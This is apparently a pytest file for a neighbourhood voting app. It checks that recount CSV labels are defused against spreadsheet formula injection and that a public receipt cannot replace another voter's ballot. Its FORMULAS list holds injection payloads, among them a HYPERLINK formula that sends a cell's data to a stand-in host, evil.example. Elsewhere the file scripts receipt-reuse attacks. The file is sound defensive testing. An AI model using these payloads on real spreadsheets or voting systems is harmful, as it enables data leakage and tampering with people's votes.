"""Secret ballots: the recount file defused against spreadsheet formulas; the revote key held only by the voter's
device, distinct from the public receipt (issue 15).

Before: a poll's option labels went into the recount CSV as typed (`=HYPERLINK(...)` ran in Excel), and on a
poll with revoting, the receipt a voter may publish was itself what replaced their ballot: anyone holding it
(another voter who had already voted included) could change that voter's choice.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import text

from backend.extensions import db
from tests.voting.conftest import poll_body

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("label", FORMULAS)
def test_can_an_option_label_run_as_a_formula_in_the_recount_file(client_for, town, vote, end_poll, label):
    """The committee (or whoever words a poll) names an option like a formula: does the recount file, opened in
    a spreadsheet, run it? Every labels cell must start with something a spreadsheet reads as text."""
    body = poll_body("single", options=[{"label": label}, {"label": "正常选项"}])
    poll = client_for(town.committee).post(f"/api/v1/communities/{town.cid}/polls", json=body).json
    for resident in town.residents[:2]:
        assert vote(resident, poll, {"option_id": poll["options"][0]["id"]}).status_code == 201
    end_poll(poll["id"])
    response = client_for(town.residents[0]).get(f"/api/v1/polls/{poll['id']}/recount.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["receipt_hash", "choices", "labels"]
    for row in rows[1:]:
        assert row[2] == "'" + label  # the label, kept whole, behind an apostrophe
        assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r"))


# --- the revote key ---------------------------------------------------------------------------------------------


@pytest.fixture
def revote_poll(new_poll):
    return new_poll("single", allow_revote=True)


def _counts(client_for, poll_id):
    return [c["votes"] for c in client_for().get(f"/api/v1/polls/{poll_id}/results").json["counts"]]


def test_can_someone_with_my_published_receipt_change_my_vote(client_for, town, revote_poll, vote, end_poll):
    """A publishes her receipt (to prove she voted). B, who has voted already, sends a ballot with A's receipt,
    then with A's receipt as a revote key; C, who has not voted, casts with A's receipt. Does A's ballot change?
    Only A's device key replaces it."""
    ids = [o["id"] for o in revote_poll["options"]]
    alice, bob, carol = town.residents[:3]
    cast = vote(alice, revote_poll, {"option_id": ids[0]})
    published, key = cast.json["receipt"], cast.json["revote_key"]
    assert vote(bob, revote_poll, {"option_id": ids[1]}).status_code == 201
    attacks = [
        (bob, {"option_id": ids[2], "receipt": published}, "already_voted"),
        (bob, {"option_id": ids[2], "revote_key": published}, "already_voted"),
        (bob, {"option_id": ids[2], "revote_key": published + "x"}, "already_voted"),
        (carol, {"option_id": ids[2], "receipt": published}, "voting.receipt_reused"),
        (bob, {"option_id": ids[2], "revote_key": key, "receipt": published}, "validation_failed"),
    ]
    for who, body, code in attacks:
        response = vote(who, revote_poll, body)
        assert response.status_code in (409, 422) and response.json["code"] == code, (body, response.json)
    again = vote(alice, revote_poll, {"option_id": ids[1], "revote_key": key})  # her device: replaced in place
    assert again.status_code == 201 and again.json["revoted"] is True and again.json["receipt"] == published
    end_poll(revote_poll["id"])
    assert _counts(client_for, revote_poll["id"]) == [0, 2, 0]  # Alice's last choice and Bob's; no attack counted
    print(f"\nreceipt attacks refused: {len(attacks)}")


def test_can_someone_with_my_revote_key_from_another_poll_change_this_vote(town, new_poll, vote):
    """A key is bound to one ballot: Alice's key of poll 1, sent by Bob on poll 2, replaces nothing."""
    first, second = new_poll("single", allow_revote=True), new_poll("single", allow_revote=True)
    ids2 = [o["id"] for o in second["options"]]
    key = vote(town.residents[0], first).json["revote_key"]
    assert vote(town.residents[0], second, {"option_id": ids2[0]}).status_code == 201
    assert vote(town.residents[1], second, {"option_id": ids2[1]}).status_code == 201
    response = vote(town.residents[1], second, {"option_id": ids2[2], "revote_key": key})
    assert response.status_code == 409 and response.json["code"] == "already_voted"


def test_is_the_revote_key_kept_anywhere_on_the_server(app, town, revote_poll, vote):
    """The server hands its key out once and keeps only the hash of the receipt derived from it: is the key, in
    any form the ballot could be replaced with, anywhere in the ballots, the roll or the idempotency cache?"""
    key = vote(town.residents[0], revote_poll, headers={"Idempotency-Key": "ballot-1"}).json["revote_key"]
    device_key = "device-made-revote-key-0123456789"
    body = {"option_id": revote_poll["options"][0]["id"], "revote_key": device_key}
    assert vote(town.residents[1], revote_poll, body).status_code == 201
    with app.app_context():
        stored = " ".join(
            str(row)
            for table in ("ballots", "poll_roll", "idempotency_records")
            for row in db.session.execute(text(f"SELECT * FROM {table}")).all()
        )
    assert key not in stored and device_key not in stored


def test_does_the_device_compute_the_same_receipt_offline(town, revote_poll, vote):
    """The PWA makes the key and shows the receipt before the ballot is sent (offline outbox): is the receipt it
    computes (SHA-256 of "linli-receipt:" + key, URL-safe base64, 32 characters) the one the server gives?"""
    import base64
    import hashlib

    key = "made-on-the-phone-abcdefghijklmn"
    expected = base64.urlsafe_b64encode(hashlib.sha256(f"linli-receipt:{key}".encode()).digest()).decode()[:32]
    response = vote(town.residents[0], revote_poll, {"option_id": revote_poll["options"][0]["id"], "revote_key": key})
    assert response.status_code == 201 and response.json["receipt"] == expected
    assert response.json["revote_key"] is None  # the device made it: nothing to hand out


def test_without_revoting_no_key_is_made_and_a_key_replaces_nothing(town, new_poll, vote):
    """On a poll without revoting, is a revote key ever handed out, and does sending one reopen the ballot?"""
    poll = new_poll("single")
    ids = [o["id"] for o in poll["options"]]
    first = vote(town.residents[0], poll, {"option_id": ids[0], "revote_key": "a-key-for-a-final-poll-000"})
    assert first.status_code == 201 and first.json["revote_key"] is None
    again = vote(town.residents[0], poll, {"option_id": ids[1], "revote_key": "a-key-for-a-final-poll-000"})
    assert again.status_code == 409 and again.json["code"] == "already_voted"
    assert vote(town.residents[1], poll, {"option_id": ids[0]}).json["revote_key"] is None
